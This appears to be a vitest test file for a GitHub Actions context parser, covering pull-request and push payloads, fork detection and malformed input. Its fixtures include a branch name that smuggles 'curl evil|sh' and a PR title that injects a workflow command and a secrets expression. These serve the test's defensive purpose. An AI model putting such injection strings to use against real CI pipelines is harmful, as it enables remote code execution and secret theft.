import { writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { expect, it } from 'vitest';
import { context } from '../src/index.ts';
import { scratchFolder } from './runner.ts';

const HEAD = 'a'.repeat(40);
const MERGE = 'b'.repeat(40);
const runner = {
  GITHUB_REPOSITORY: 'acme/photo-app',
  GITHUB_SHA: MERGE,
  GITHUB_REF: 'refs/pull/7/merge',
  GITHUB_REF_NAME: '7/merge',
  GITHUB_REF_TYPE: 'branch',
  GITHUB_HEAD_REF: 'x";curl evil|sh;"',
  GITHUB_BASE_REF: 'main',
  GITHUB_EVENT_NAME: 'pull_request',
  GITHUB_RUN_ID: '99',
  GITHUB_RUN_NUMBER: '5',
  GITHUB_RUN_ATTEMPT: '2',
  GITHUB_SERVER_URL: 'https://github.example',
  GITHUB_API_URL: 'https://github.example/api/v3',
  GITHUB_WORKSPACE: '/w',
  RUNNER_TEMP: '/t',
};

function pull(headRepository: string | null): unknown {
  const repo = headRepository === null ? null : { full_name: headRepository };
  return {
    repository: { default_branch: 'trunk' },
    pull_request: {
      number: 7,
      title: '::error::${{ secrets.X }}',
      html_url: 'https://github.example/acme/photo-app/pull/7',
      user: { login: 'mallory' },
      head: { sha: HEAD, ref: 'x";curl evil|sh;"', repo },
      base: { sha: 'c'.repeat(40), ref: 'main', repo: { full_name: 'acme/photo-app' } },
    },
  };
}

function contextOf(payload: string, env: NodeJS.ProcessEnv = runner) {
  const path = join(scratchFolder(), 'event.json');
  writeFileSync(path, payload);
  return context({ ...env, GITHUB_EVENT_PATH: path });
}

it('tells of a pull request, whose strings stay what they are', () => {
  expect(contextOf(JSON.stringify(pull('acme/photo-app')))).toMatchObject({
    owner: 'acme',
    repo: 'photo-app',
    sha: MERGE,
    headSha: HEAD,
    defaultBranch: 'trunk',
    runUrl: 'https://github.example/acme/photo-app/actions/runs/99',
    runAttempt: 2,
    pullRequest: {
      number: 7,
      title: '::error::${{ secrets.X }}',
      author: 'mallory',
      headRef: 'x";curl evil|sh;"',
      baseRef: 'main',
      fromFork: false,
    },
  });
});

it.each([
  ['acme/photo-app', false],
  ['mallory/photo-app', true],
  [null, true],
])('a head in %s comes from a fork: %s', (head, fromFork) =>
  expect(contextOf(JSON.stringify(pull(head))).pullRequest?.fromFork).toBe(fromFork),
);

it('tells of a push', () => {
  const env = { ...runner, GITHUB_REF: 'refs/heads/main', GITHUB_EVENT_NAME: 'push' };
  const found = contextOf('{"ref":"refs/heads/main"}', env);
  expect(found).toMatchObject({ headSha: MERGE, eventName: 'push', event: { ref: 'refs/heads/main' } });
  expect(found.pullRequest).toBeUndefined();
});

it.each([
  '',
  '{',
  'null',
  '[]',
  '"text"',
  '{"pull_request":[]}',
  '{"pull_request":{"number":"7"}}',
  '\ufeff{}',
])('takes the payload %j for one without a pull request', (payload) =>
  expect(contextOf(payload)).toMatchObject({ headSha: MERGE, defaultBranch: '' }),
);

it('takes any payload', () => {
  const keys = fc.constantFrom('pull_request', 'repository', 'head', 'base', 'repo', 'number', 'user');
  const level = (below: fc.Arbitrary<unknown>) => fc.dictionary(keys, below, { maxKeys: 4 });
  const tree = level(level(level(fc.constantFrom(null, 7, 'text', [], {}))));
  fc.assert(
    fc.property(tree, (payload) => {
      const found = contextOf(JSON.stringify(payload));
      if (found.pullRequest) expect(typeof found.pullRequest.number).toBe('number');
      expect(typeof found.headSha).toBe('string');
    }),
    { numRuns: 200 },
  );
});

it('goes without all of it', () => {
  expect(context({ GITHUB_API_URL: '', RUNNER_TEMP: '', GITHUB_RUN_ID: 'x' })).toMatchObject({
    owner: '',
    repo: '',
    event: {},
    runId: 0,
    runAttempt: 1,
    apiUrl: 'https://api.github.com',
    serverUrl: 'https://github.com',
    workspace: process.cwd(),
    temp: tmpdir(),
  });
  expect(context({ GITHUB_EVENT_PATH: '/nowhere/event.json' }).event).toEqual({});
});
